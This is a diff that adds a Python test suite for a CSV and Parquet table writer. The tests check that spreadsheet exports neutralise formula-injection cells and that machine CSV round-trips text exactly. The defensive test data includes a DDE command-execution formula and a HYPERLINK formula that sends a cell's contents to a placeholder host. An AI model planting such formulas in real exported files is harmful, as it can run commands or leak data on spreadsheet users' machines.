@@ -1,0 +1,354 @@
+"""The table writer's rules (framing.output): machine CSV round-trips text exactly; the
+spreadsheet CSV (``--excel``) adds a BOM and CRLF and neutralises formula cells.
+
+The spreadsheet rule, as documented in ``framing/output.py`` and ``docs/outputs_guide.md``: a
+text cell whose first character is ``= + - @``, a full-width ``＝ ＋ － ＠``, a tab or a carriage
+return is prefixed with ``'``; numeric columns are never touched; the machine CSV never is.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import os
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from framing import output
+from framing.analyze import Config, analyze
+
+EXAMPLES = int(os.environ.get("FRAMING_HYPOTHESIS_EXAMPLES", "10000"))
+
+#: The rule from the issue, written out here so a change in output.py is caught.
+PREFIXES = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r"]
+
+BOM = b"\xef\xbb\xbf"
+
+
+def parse(text: str) -> pd.DataFrame:
+    """Parse CSV text the way :func:`framing.output.read_csv` parses a file."""
+    return output.read_csv(io.BytesIO(text.encode("utf-8")))
+
+
+def spreadsheet_rows(text: str) -> list[list[str]]:
+    """Parse CSV text with the standard library reader (RFC 4180, as spreadsheets do)."""
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+# --------------------------------------------------------------------------- the rule
+
+
+def test_prefix_list_is_the_documented_rule():
+    assert list(output.FORMULA_PREFIXES) == PREFIXES
+
+
+@pytest.mark.parametrize("prefix", [pytest.param(p, id=repr(p)) for p in PREFIXES])
+def test_every_formula_prefix_is_neutralised_in_excel_and_kept_raw_in_machine_csv(prefix):
+    values = [prefix, f"{prefix}1+1", f"{prefix}HYPERLINK(\"http://x\",\"點我\")", "安全"]
+    df = pd.DataFrame({"doc_id": ["a", "b", "c", "d"], "text": values})
+
+    excel = parse(output.csv_text(df, excel=True))
+    assert excel["text"].tolist() == ["'" + v for v in values[:3]] + ["安全"]
+    assert excel["doc_id"].tolist() == ["a", "b", "c", "d"]
+
+    machine = parse(output.csv_text(df))
+    assert machine["text"].tolist() == values
+
+
+@pytest.mark.parametrize("value", ["a=1", " =1", "1-2", "'=1", "（=）", "中=文", "", "NA"])
+def test_cells_not_starting_with_a_prefix_are_left_alone(value):
+    df = pd.DataFrame({"text": [value, "x"]})
+    assert parse(output.csv_text(df, excel=True))["text"].tolist() == [value, "x"]
+
+
+def test_numeric_columns_are_never_prefixed():
+    df = pd.DataFrame({
+        "doc_id": ["a", "b"],
+        "n": [-5, 3],
+        "score": [-0.25, 1.5],
+        "flag": [True, False],
+        "text_number": ["-5", "+3"],  # text that looks numeric is still text: neutralised
+    })
+    text = output.csv_text(df, excel=True)
+    rows = spreadsheet_rows(text)
+    assert rows == [
+        ["doc_id", "n", "score", "flag", "text_number"],
+        ["a", "-5", "-0.25", "True", "'-5"],
+        ["b", "3", "1.5", "False", "'+3"],
+    ]
+
+
+def test_string_dtype_and_missing_values():
+    df = pd.DataFrame({"text": pd.array(["=1", pd.NA, "@a"], dtype="string"),
+                       "obj": ["-x", None, 7]})
+    rows = spreadsheet_rows(output.csv_text(df, excel=True))
+    assert rows == [["text", "obj"], ["'=1", "'-x"], ["", ""], ["'@a", "7"]]
+    # The input table is not changed in place.
+    assert df["text"].iloc[0] == "=1"
+
+
+# --------------------------------------------------------------------------- encodings, line ends
+
+
+def test_excel_csv_has_bom_and_crlf_machine_csv_has_neither(tmp_path):
+    df = pd.DataFrame({"outlet": ["JER學家", "雲媒體"], "text": ["人才戰", "=焦慮"]})
+    excel = output.write_csv(df, tmp_path / "excel.csv", excel=True).read_bytes()
+    machine = output.write_csv(df, tmp_path / "machine.csv").read_bytes()
+
+    assert excel.startswith(BOM)
+    assert excel.count(BOM) == 1
+    lines = excel[len(BOM):].split(b"\r\n")
+    assert lines[-1] == b"" and len(lines) == 4
+    assert all(b"\n" not in line and b"\r" not in line for line in lines)
+    assert excel.decode("utf-8-sig").startswith("outlet,text\r\n")
+
+    assert not machine.startswith(BOM)
+    assert b"\r" not in machine
+    assert machine == "outlet,text\nJER學家,人才戰\n雲媒體,=焦慮\n".encode()
+
+
+def test_write_csv_writes_exactly_csv_text(tmp_path):
+    df = pd.DataFrame({"a": ["x,y", "z"], "b": [1.5, -2.0]})
+    for excel in (False, True):
+        path = output.write_csv(df, tmp_path / f"t{excel}.csv", excel=excel)
+        assert path.read_bytes() == output.csv_text(df, excel=excel).encode("utf-8")
+
+
+# --------------------------------------------------------------------------- breakout payloads
+
+PAYLOADS = [
+    'a","=1+1',
+    '","=1+1',
+    '=1+1","',
+    '"=1+1"',
+    'a,=1+1',
+    'a;=1+1',
+    'a\t=1+1',
+    'a\n=1+1',
+    'a\r\n=1+1',
+    '""=1+1',
+    '=HYPERLINK("http://example.invalid/?"&A1,"點擊")',
+    "=cmd|' /C calc'!A0",
+    '\\",=1+1',
+    "'=1+1",
+]
+
+
+@pytest.mark.parametrize("excel", [False, True], ids=["machine", "excel"])
+def test_breakout_payloads_parse_back_as_one_cell(excel):
+    df = pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(PAYLOADS))], "text": PAYLOADS,
+                       "n": range(len(PAYLOADS))})
+    text = output.csv_text(df, excel=excel)
+    want = [output.neutralise_cell(p) if excel else p for p in PAYLOADS]
+
+    for parsed in (parse(text), pd.DataFrame(spreadsheet_rows(text)[1:],
+                                             columns=spreadsheet_rows(text)[0])):
+        assert parsed.columns.tolist() == ["doc_id", "text", "n"]
+        assert parsed.shape == (len(PAYLOADS), 3)
+        for i, payload in enumerate(want):
+            assert parsed.iloc[i].tolist() == [f"d{i}", payload, str(i)], PAYLOADS[i]
+        if excel:  # no parsed cell of a text column can start a formula
+            for cell in parsed["text"].tolist() + parsed["doc_id"].tolist():
+                assert not cell.startswith(tuple(PREFIXES)), cell
+
+
+# --------------------------------------------------------------------------- round trip property
+
+# Characters that break naive CSV handling, Chinese text, and values readers like to convert.
+TRICKY = "，,\"'\n ;\t=+-@＝＋－＠#中文人才戰祖克柏扎克伯格「」0１9.eE"
+SPECIAL_VALUES = ["", "NA", "N/A", "#N/A", "None", "null", "NULL", "nan", "NaN", "-nan", "inf",
+                  "TRUE", "False", "007", "0012", "1e5", "-0", "0x1F", " ", "  ", "\t", "\n",
+                  "\ufeff", "\u3000", "\u2028"]
+
+cell = st.one_of(
+    st.sampled_from(SPECIAL_VALUES),
+    st.text(alphabet=st.sampled_from(TRICKY), max_size=12),
+    # Any code point a UTF-8 file can hold, except a lone carriage return (see the xfail test).
+    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"),
+            max_size=8),
+)
+
+
+# Each example writes and parses four CSVs with pandas (about 8 ms), so the property runs a
+# tenth of the suite's example budget, on tables of up to six rows.
+@settings(max_examples=max(EXAMPLES // 10, 20), derandomize=True, deadline=None)
+@given(st.integers(1, 3).flatmap(
+    lambda ncols: st.lists(st.lists(cell, min_size=ncols, max_size=ncols),
+                           min_size=1, max_size=6)))
+def test_machine_csv_round_trips_any_text_exactly(rows):
+    ncols = len(rows[0])
+    df = pd.DataFrame(rows, columns=[f"c{i}" for i in range(ncols)], dtype=object)
+
+    back = parse(output.csv_text(df))
+    assert back.columns.tolist() == df.columns.tolist()
+    assert back.values.tolist() == rows
+
+    excel = parse(output.csv_text(df, excel=True))
+    assert excel.values.tolist() == [[output.neutralise_cell(v) for v in r] for r in rows]
+    for r_in, r_out in zip(rows, excel.values.tolist(), strict=True):
+        for v_in, v_out in zip(r_in, r_out, strict=True):
+            # The apostrophe is the only change, and only where a prefix starts the cell.
+            assert v_out == v_in or (v_out == "'" + v_in and v_in.startswith(tuple(PREFIXES)))
+
+
+def test_lone_carriage_return_round_trips_in_machine_csv():
+    df = pd.DataFrame({"a": ["x\ry", "z"], "b": ["1", "2"]})
+    assert parse(output.csv_text(df)).values.tolist() == [["x\ry", "1"], ["z", "2"]]
+
+
+def test_lone_carriage_return_round_trips_in_excel_csv():
+    # CRLF line ends make the writer quote any field holding \r, so the spreadsheet CSV is safe.
+    df = pd.DataFrame({"a": ["x\ry", "\rz"], "b": ["1", "2"]})
+    assert parse(output.csv_text(df, excel=True)).values.tolist() == [["x\ry", "1"],
+                                                                      ["'\rz", "2"]]
+
+
+# --------------------------------------------------------------------------- Parquet
+
+
+def test_parquet_round_trips_types_and_text(tmp_path):
+    pytest.importorskip("pyarrow")
+    df = pd.DataFrame({"doc_id": ["a", "b"], "text": ["=人才戰", "007"], "n": [-1, 2],
+                       "x": [0.1, float("nan")]})
+    path = output.write_parquet(df, tmp_path / "t.parquet")
+    back = pd.read_parquet(path)
+    pd.testing.assert_frame_equal(back, df)  # raw values: Parquet is not a spreadsheet format
+
+
+# --------------------------------------------------------------------------- a whole run
+
+
+def _check_excel_folder(out, tables):
+    """Every CSV of a run written with ``excel=True`` has a BOM, CRLF and no live formula."""
+    csvs = sorted(out.glob("*.csv"))
+    assert {p.stem for p in csvs} == set(tables)
+    neutralised = 0
+    for path in csvs:
+        data = path.read_bytes()
+        assert data.startswith(BOM), path.name
+        assert data.count(b"\n") == data.count(b"\r\n") or b'"' in data, path.name
+        back = output.read_csv(path)
+        raw = parse(output.csv_text(tables[path.stem]))
+        assert back.columns.tolist() == raw.columns.tolist(), path.name
+        assert back.shape == raw.shape, path.name
+        df = tables[path.stem]
+        for col in back.columns:
+            numeric = pd.api.types.is_numeric_dtype(df[col]) or pd.api.types.is_bool_dtype(df[col])
+            for got, want in zip(back[col], raw[col], strict=True):
+                if numeric:
+                    assert got == want
+                elif got != want:
+                    assert got == "'" + want and want.startswith(tuple(PREFIXES)), (path, col)
+                    neutralised += 1
+                else:
+                    assert not got.startswith(tuple(PREFIXES)), (path.name, col, got)
+    return neutralised
+
+
+def test_analyze_excel_on_the_shipped_corpus_writes_spreadsheet_csvs(tmp_path):
+    from conftest import SEED_CORPUS
+
+    result = analyze(SEED_CORPUS, tmp_path / "out", Config(excel=True, figures=False, n_boot=200))
+    _check_excel_folder(result.out_dir, result.tables)
+    assert result.manifest["config"]["excel"] is True
+
+
+HOSTILE = {
+    "=測試媒體": ("-標題", [
+        "=HYPERLINK(\"http://example.invalid\",\"人才\")",
+        "＋Meta 開出天價 offer，祖克柏親自下場搶人，矽谷人才戰升溫。",
+        "-1 是分數嗎？研究人員擔心創新文化與開源社群受到衝擊。",
+        "@扎克伯格 回應了薪酬與股權的質疑，投資人感到焦慮。",
+    ]),
+    "@另一媒體": ("+標題", [
+        "＠OpenAI 的研究員跳槽，算力與數據集中在少數巨頭手中。",
+        "＝監管機構關注壟斷，初創公司難以競爭，市場格局改變。",
+        "－谷歌與微軟加碼招聘，工程師薪資水漲船高，行業焦慮加劇。",
+    ]),
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_corpus(tmp_path_factory):
+    """Two short articles whose outlets, titles and paragraphs start with formula prefixes."""
+    from framing.corpus import add_articles, init_corpus
+
+    base = tmp_path_factory.mktemp("hostile")
+    corpus = init_corpus(base / "corpus")
+    for i, (outlet, (title, paragraphs)) in enumerate(HOSTILE.items()):
+        article = base / f"a{i}.txt"
+        article.write_text("\n".join(paragraphs) + "\n", encoding="utf-8")
+        add_articles(corpus, [article], outlet=outlet, date=f"2025-07-0{i + 1}", title=title,
+                     doc_id=f"doc{i}")
+    return corpus
+
+
+def test_analyze_excel_neutralises_hostile_corpus_text(tmp_path, hostile_corpus):
+    result = analyze(hostile_corpus, tmp_path / "out",
+                     Config(excel=True, figures=False, n_boot=50))
+    assert _check_excel_folder(result.out_dir, result.tables) > 0
+    paragraphs = output.read_csv(result.out_dir / "paragraphs.csv")
+    assert paragraphs["text"].tolist() == ["'" + t for _, ps in HOSTILE.values() for t in ps]
+    articles = output.read_csv(result.out_dir / "articles.csv")
+    assert articles["outlet"].tolist() == ["'=測試媒體", "'@另一媒體"]
+    assert articles["title"].tolist() == ["'-標題", "'+標題"]
+
+    machine = analyze(hostile_corpus, tmp_path / "machine", Config(figures=False, n_boot=50))
+    raw = output.read_csv(machine.out_dir / "articles.csv")
+    assert raw["outlet"].tolist() == ["=測試媒體", "@另一媒體"]
+    assert not (machine.out_dir / "articles.csv").read_bytes().startswith(BOM)
+
+
+# --------------------------------------------------------------------------- framing report
+
+
+def test_report_writes_the_figure_set_with_a_manifest(tmp_path, hostile_corpus, capsys):
+    from framing.figureset import write_report
+
+    out = tmp_path / "report"
+    paths = write_report(hostile_corpus, out, n_boot=50)
+    assert paths[-1] == out / "manifest.json"
+    stems = {p.stem for p in paths if p.suffix == ".png"}
+    assert {p.stem for p in paths if p.suffix == ".svg"} == stems
+    assert {"outlet_frames", "distinctive_terms", "sentiment_arcs"} <= stems
+    assert sorted(out.iterdir()) == sorted(paths)
+    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["framing_report"] == 1
+    for name, digest in manifest["files"].items():
+        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest
+    assert manifest["figure_scorer"]["column"].startswith("sentiment_")
+
+    # The command reruns it into the same folder: replaced, byte-identical files.
+    before = {p.name: p.read_bytes() for p in paths}
+    assert _report_command([str(hostile_corpus), "-o", str(out), "--n-boot", "50"]) == 0
+    assert "outlet_frames" in capsys.readouterr().out
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+
+
+def _report_command(argv):
+    import argparse
+
+    from framing.commands import report
+
+    parser = argparse.ArgumentParser()
+    report.register(parser.add_subparsers())
+    args = parser.parse_args(["report", *argv])
+    return args.func(args)
+
+
+def test_report_refuses_to_replace_an_analysis_folder(tmp_path, hostile_corpus):
+    from framing.errors import FramingError
+    from framing.figureset import write_report
+
+    out = tmp_path / "analysis"
+    analyze(hostile_corpus, out, Config(figures=False, n_boot=20))
+    with pytest.raises(FramingError, match="other framing output"):
+        write_report(hostile_corpus, out, n_boot=20)
+    assert (out / "paragraphs.csv").exists()
+    with pytest.raises(FramingError, match="inside the corpus"):
+        write_report(hostile_corpus, hostile_corpus / "figs", n_boot=20)
